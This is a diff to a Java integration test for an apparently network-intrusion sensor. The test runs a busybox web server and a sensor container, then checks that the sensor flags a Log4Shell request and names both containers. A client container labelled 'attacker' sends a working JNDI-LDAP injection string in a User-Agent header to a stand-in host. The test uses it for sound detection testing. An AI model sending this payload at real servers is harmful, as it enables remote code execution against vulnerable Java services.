@@ -68,27 +68,34 @@ class ContainerImageRootTest {
             docker(host, 120, "build", "-q", "-t", "cn-dk-busybox:1", bb.toString());
             docker(host, 60, "network", "create", "--driver", "bridge", "--subnet", "10.253.0.0/24",
                     "-o", "com.docker.network.bridge.name=" + BRIDGE, "cn-dk-net");
-            docker(host, 60, "run", "-d", "--name", "cn-dk-web", "--network", "cn-dk-net", "--ip", "10.253.0.10",
-                    "cn-dk-busybox:1", "httpd", "-f", "-p", "8080", "-h", "/www");
+            docker(host, 60, "run", "-d", "--name", "cn-dk-web", "--label", "app=web", "--network", "cn-dk-net",
+                    "--ip", "10.253.0.10", "cn-dk-busybox:1", "httpd", "-f", "-p", "8080", "-h", "/www");
+            // the test's own dockerd socket, readable by the sensor's uid (the sensor names containers through it)
+            run(List.of("chmod", "666", sock.toString()), 10);
 
             // the sensor: host network (it must see the bridge), non-root, only the two capabilities
             docker(host, 60, "run", "-d", "--name", "cn-dk-sensor", "--network", "host", "--cap-drop", "ALL",
-                    "--cap-add", "NET_RAW", "--cap-add", "NET_ADMIN", "--read-only", "--tmpfs", "/tmp",
-                    "-v", out + ":/var/lib/crowsnest", "crowsnest-local:test",
-                    "live", "--interfaces", BRIDGE, "--out", "/var/lib/crowsnest", "--no-identity",
+                    "--cap-add", "NET_RAW", "--cap-add", "NET_ADMIN", "--read-only", "--tmpfs", "/tmp:exec",
+                    "-v", out + ":/var/lib/crowsnest", "-v", sock + ":/var/run/docker.sock", "crowsnest-local:test",
+                    "live", "--interfaces", BRIDGE, "--out", "/var/lib/crowsnest", "--node", "cn-dk-node",
                     "--metrics-address", "none", "--admin-address", "none");
             waitFor(() -> logs(host, "cn-dk-sensor").contains("capturing on " + BRIDGE), Duration.ofSeconds(60),
                     () -> "the sensor container did not start capturing:\n" + logs(host, "cn-dk-sensor"));
             assertEquals("10001:10001", docker(host, 30, "inspect", "-f", "{{.Config.User}}", "cn-dk-sensor"));
 
-            docker(host, 60, "run", "--rm", "--name", "cn-dk-client", "--network", "cn-dk-net", "cn-dk-busybox:1",
-                    "wget", "-q", "-O", "/dev/null", "--header", "User-Agent: ${jndi:ldap://10.253.0.66:1389/a}",
-                    "http://10.253.0.10:8080/");
+            docker(host, 60, "run", "--rm", "--name", "cn-dk-client", "--label", "role=attacker", "--network", "cn-dk-net",
+                    "cn-dk-busybox:1", "sh", "-c", "sleep 1; wget -q -O /dev/null --header 'User-Agent: ${jndi:ldap://10.253.0.66:1389/a}'"
+                    + " http://10.253.0.10:8080/; sleep 2");
             Path eve = out.resolve("eve.json");
             waitFor(() -> read(eve).contains("\"signature_id\":9100001"), Duration.ofSeconds(30),
                     () -> "no Log4Shell alert from the container:\n" + read(eve) + "\n" + logs(host, "cn-dk-sensor"));
             String alert = read(eve).lines().filter(l -> l.contains("\"signature_id\":9100001")).findFirst().orElseThrow();
             assertTrue(alert.contains("\"dest_ip\":\"10.253.0.10\"") && alert.contains("\"dest_port\":8080"), alert);
+            // both ends named from the Docker Engine API, the client after it was removed (--rm)
+            assertTrue(alert.contains("\"src_workload\":{\"kind\":\"container\"") && alert.contains("\"container\":\"cn-dk-client\"")
+                    && alert.contains("\"role\":\"attacker\""), () -> alert + "\n" + logs(host, "cn-dk-sensor"));
+            assertTrue(alert.contains("\"container\":\"cn-dk-web\"") && alert.contains("\"image\":\"cn-dk-busybox:1\"")
+                    && alert.contains("\"app\":\"web\""), alert);
 
             docker(host, 60, "stop", "-t", "20", "cn-dk-sensor");
             assertEquals("0", docker(host, 30, "inspect", "-f", "{{.State.ExitCode}}", "cn-dk-sensor"),
